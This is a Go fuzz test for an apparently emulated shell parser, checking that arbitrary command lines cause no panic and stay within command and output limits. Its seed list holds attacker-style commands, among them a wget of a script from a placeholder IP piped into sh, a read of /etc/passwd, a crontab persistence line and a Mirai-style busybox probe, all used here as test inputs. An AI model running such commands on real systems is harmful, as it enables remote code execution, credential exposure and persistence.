package shell

import (
	"bytes"
	"testing"
)

// FuzzParse feeds arbitrary command lines to the parser and to a shell:
// nothing may panic, a parsed list stays within the limits, and one line's
// output stays within MaxOutput.
func FuzzParse(f *testing.F) {
	for _, s := range []string{
		"uname -a; id", "cd /tmp && wget http://1.2.3.4/x.sh -O- | sh", "echo -e '\\x41\\n' > /tmp/a 2>&1",
		"/bin/busybox ECCHI", "a || b && c & d", "echo $(echo `whoami`) ${HOME:-x} $?", "'unterminated",
		"cat < /etc/passwd | grep root >> out", "X=1 Y=2 env", "sh -c 'sh -c \"echo deep\"'", "echo \\\n next",
		"printf '%s %d %b\\n' a 1 '\\t'", ";;", "| x", "a &&", "echo $((1+2))", "yes | head -n 3",
		"dd if=/proc/self/exe bs=1 count=20 skip=2 of=/tmp/x", "head -c 4 /proc/self/exe", "openssl rand -hex 9999999",
		"strace strace id", "lsof -i :22", "cat /proc/net/arp", "readlink -f /bin/../proc/self/exe", "file -L /bin/bash /x",
		"(crontab -l; echo x) | crontab -", "((((((echo deep))))))", "(cd /; (exit 2)) || echo $?", `( ')' "(" )`, "(a) b",
	} {
		f.Add(s)
	}
	s := newFuzzShell()
	f.Fuzz(func(t *testing.T, line string) {
		list, err := Parse(line, nil)
		if err == nil {
			if len(list) > MaxCommands+1 {
				t.Fatalf("%d pipelines", len(list))
			}
			for _, pl := range list {
				if len(pl.Cmds) > MaxCommands+1 {
					t.Fatalf("%d commands", len(pl.Cmds))
				}
			}
		}
		var out bytes.Buffer
		s.Exited = false
		s.Run(line, &out)
		if out.Len() > MaxOutput {
			t.Fatalf("output %d bytes", out.Len())
		}
	})
}
